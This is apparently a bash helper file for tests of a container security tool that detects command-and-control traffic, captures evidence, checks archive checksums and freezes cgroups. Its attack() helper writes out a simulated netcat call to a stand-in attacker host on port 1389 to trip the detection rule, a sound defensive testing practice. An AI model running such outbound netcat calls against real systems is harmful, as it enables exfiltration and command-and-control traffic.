# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash
#
# What stories about evidence share, beside story.bash.

unified_of() { echo "$CGROUP2/$RUN_NAME/$1"; }
attack() { echo "echo hello | nc -w 3 $ATTACKER4 1389; sleep 60"; }

# evidence_of ID: waits for the id of the capture its response's alert names.
evidence_of() {
  event "$C2_RULE" ".bailiff.container.id == \"$1\"
    and .bailiff.evidence != null" || return
  EVIDENCE=$(service_events | jq -r "select(.rule == \"$C2_RULE\"
    and .bailiff.container.id == \"$1\") | .bailiff.evidence" | head -n 1)
  wait_until 20 "the capture" is_complete
}
is_complete() {
  api GET "/v1/evidence/$EVIDENCE" | jq -e '.state == "complete"'
}

# unpack: exports the capture to its folder, and verifies each member.
unpack() {
  UNPACKED=$SCRATCH/unpacked-$EVIDENCE
  mkdir "$UNPACKED"
  bailiff_api evidence export "$EVIDENCE" -o "$SCRATCH/$EVIDENCE.tar.zst"
  tar --zstd -xf "$SCRATCH/$EVIDENCE.tar.zst" -C "$UNPACKED"
  jq -r '.members[] | "\(.sha256)  \(.name)"' "$UNPACKED/manifest.json" \
    >"$SCRATCH/sums"
  (cd "$UNPACKED" && sha256sum --check --strict --quiet "$SCRATCH/sums")
  # Nothing but files, and none that is not in the manifest.
  [[ -z $(find "$UNPACKED" ! -type f ! -type d) ]]
  (($(find "$UNPACKED" -type f | wc -l) == $(wc -l <"$SCRATCH/sums") + 1))
}

steps_are() {
  diff <(printf '%s\n' "$@") <(jq -r '.steps[].step' "$UNPACKED/manifest.json")
}

is_frozen() { grep -q 'frozen 1' "$(unified_of "$1")/cgroup.events"; }
is_thawed() { grep -q 'frozen 0' "$(unified_of "$1")/cgroup.events"; }
